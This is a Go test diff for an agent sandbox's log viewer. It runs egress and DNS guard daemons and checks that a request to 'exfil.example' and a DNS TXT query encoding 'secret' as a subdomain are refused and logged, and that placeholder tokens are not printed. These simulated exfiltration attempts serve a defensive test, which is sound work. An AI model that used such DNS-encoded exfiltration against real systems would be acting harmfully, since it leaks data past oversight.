@@ -2,7 +2,15 @@ package logview
 
 import (
 	"context"
+	"crypto/tls"
+	"crypto/x509"
 	"encoding/json"
+	"encoding/pem"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
@@ -12,6 +20,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 	"github.com/miekg/dns"
 
+	"github.com/bot-bottle/bot-bottle/internal/ca"
 	"github.com/bot-bottle/bot-bottle/internal/dnsguard"
 	"github.com/bot-bottle/bot-bottle/internal/sidecar"
 )
@@ -233,35 +242,89 @@ func TestOverlongLineSkipped(t *testing.T) {
 	}
 }
 
-// TestReadsWhatTheSidecarWrites runs the sidecar's real DNS daemon with
-// its state root in a temp dir, asks it for an outside name, and reads the
-// refusal back through Sources: the file names agree.
+// TestReadsWhatTheSidecarWrites runs the sidecar's real egress and DNS
+// daemons on a temp state root (egress at log level 2, so headers are
+// logged), makes one allowed request carrying the agent's own
+// Authorization header, one refused CONNECT and one refused DNS query, and
+// reads them back through Sources: the file names and shapes agree, the
+// refusals show, and neither the injected token nor the agent's header
+// value is printed.
 func TestReadsWhatTheSidecarWrites(t *testing.T) {
+	up := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "ok") }))
+	defer up.Close()
+	_, port, _ := net.SplitHostPort(up.Listener.Addr().String())
 	root := t.TempDir()
-	if err := os.MkdirAll(filepath.Join(root, "logs"), 0o700); err != nil {
+	for _, d := range []string{"logs", "egress", "queue", "ca"} {
+		os.MkdirAll(filepath.Join(root, d), 0o700)
+	}
+	if _, err := ca.LoadOrCreate(filepath.Join(root, "ca")); err != nil {
 		t.Fatal(err)
 	}
-	d, err := sidecar.NewDNS(sidecar.Config{Root: root, Listen: map[string]string{"dns": "127.0.0.1:0"}})
+	os.WriteFile(filepath.Join(root, "ca", sidecar.UpstreamCAFile), pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: up.Certificate().Raw}), 0o600)
+	policy := "egress:\n  log: 2\n  routes:\n    - host: 127.0.0.1:" + port + "\n      auth: {scheme: Bearer, token_ref: UPSTREAM_TOKEN}\n      unsafe_allow_private: true\n"
+	os.WriteFile(filepath.Join(root, "egress", "policy.yaml"), []byte(policy), 0o600)
+	daemons, err := sidecar.Builtin().Build(sidecar.Config{
+		Root: root,
+		Settings: sidecar.Settings{Daemons: []string{sidecar.DaemonEgress, sidecar.DaemonDNS}, Slug: "impl-k3x9q",
+			QueueDir: filepath.Join(root, "queue"), EgressTokenAllowTimeout: time.Minute},
+		Listen: map[string]string{sidecar.DaemonEgress: "127.0.0.1:0", sidecar.DaemonDNS: "127.0.0.1:0"},
+		Getenv: func(k string) string {
+			if k == "UPSTREAM_TOKEN" {
+				return "s3cret-injected-token"
+			}
+			return ""
+		},
+	})
 	if err != nil {
 		t.Fatal(err)
 	}
-	srv := d.(*dnsguard.Server)
 	ctx, cancel := context.WithCancel(context.Background())
 	done := make(chan error, 1)
-	go func() { done <- srv.Run(ctx) }()
+	marker := filepath.Join(root, "logs", sidecar.ReadyFile)
+	go func() { done <- (&sidecar.Bundle{Daemons: daemons, ReadyPath: marker}).Run(ctx) }()
 	t.Cleanup(func() { cancel(); <-done })
-	select {
-	case <-srv.Ready():
-	case err := <-done:
-		t.Fatalf("dns stopped: %v", err)
-	}
-	udp, _ := srv.Addrs()
-	m := new(dns.Msg)
-	m.SetQuestion("exfil.example.", dns.TypeTXT)
-	if _, _, err := (&dns.Client{Timeout: 5 * time.Second}).Exchange(m, udp.String()); err != nil {
+	if _, err := sidecar.WaitReady(ctx, marker, nil, 5*time.Millisecond); err != nil {
 		t.Fatal(err)
 	}
-	srcs, err := Sources(filepath.Join(root, "logs"), filepath.Join(root, "audit.jsonl"), []string{DNS})
+	var proxyAddr, dnsAddr string
+	for _, d := range daemons {
+		if s, ok := d.(*dnsguard.Server); ok {
+			a, _ := s.Addrs()
+			dnsAddr = a.String()
+		}
+	}
+	first, _ := NewTail([]Source{{Egress, filepath.Join(root, "logs", "egress.jsonl")}}).Poll()
+	for _, l := range first {
+		if l.Fields["msg"] == "egress listening" {
+			proxyAddr, _ = l.Fields["addr"].(string)
+		}
+	}
+	if proxyAddr == "" || dnsAddr == "" {
+		t.Fatalf("addresses: proxy %q dns %q", proxyAddr, dnsAddr)
+	}
+	bottleCA, _ := os.ReadFile(filepath.Join(root, "ca", "ca.pem"))
+	roots := x509.NewCertPool()
+	roots.AppendCertsFromPEM(bottleCA)
+	proxy, _ := url.Parse("http://" + proxyAddr)
+	agent := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxy), TLSClientConfig: &tls.Config{RootCAs: roots}}, Timeout: 10 * time.Second}
+	req, _ := http.NewRequest("GET", "https://127.0.0.1:"+port+"/ok", nil)
+	req.Header.Set("Authorization", "Bearer agent-placeholder-0123456789")
+	if resp, err := agent.Do(req); err != nil {
+		t.Fatal(err)
+	} else {
+		resp.Body.Close()
+	}
+	if resp, err := agent.Get("https://exfil.example/"); err == nil {
+		resp.Body.Close()
+		t.Fatal("a request to an undeclared host went through")
+	}
+	m := new(dns.Msg)
+	m.SetQuestion("c2VjcmV0.exfil.example.", dns.TypeTXT)
+	if _, _, err := (&dns.Client{Timeout: 5 * time.Second}).Exchange(m, dnsAddr); err != nil {
+		t.Fatal(err)
+	}
+
+	srcs, err := Sources(filepath.Join(root, "logs"), filepath.Join(root, "audit.jsonl"), nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -269,8 +332,23 @@ func TestReadsWhatTheSidecarWrites(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if len(lines) != 1 || !strings.Contains(Format(lines[0], time.UTC), "dns       REFUSE TXT exfil.example.:") {
-		t.Fatalf("lines: %q", formatAll(lines))
+	var all strings.Builder
+	for _, l := range lines {
+		all.WriteString(Format(l, time.UTC) + "\n" + string(l.Raw) + "\n")
+	}
+	for _, want := range []string{
+		"egress    WARN REFUSE CONNECT https://exfil.example",
+		"egress    ALLOW GET https://127.0.0.1:" + port + "/ok 200",
+		"dns       REFUSE TXT c2VjcmV0.exfil.example.:",
+	} {
+		if !strings.Contains(all.String(), want) {
+			t.Errorf("logs lack %q:\n%s", want, all.String())
+		}
+	}
+	for _, secret := range []string{"s3cret-injected-token", "agent-placeholder-0123456789"} {
+		if strings.Contains(all.String(), secret) {
+			t.Errorf("%q printed:\n%s", secret, all.String())
+		}
 	}
 }
 
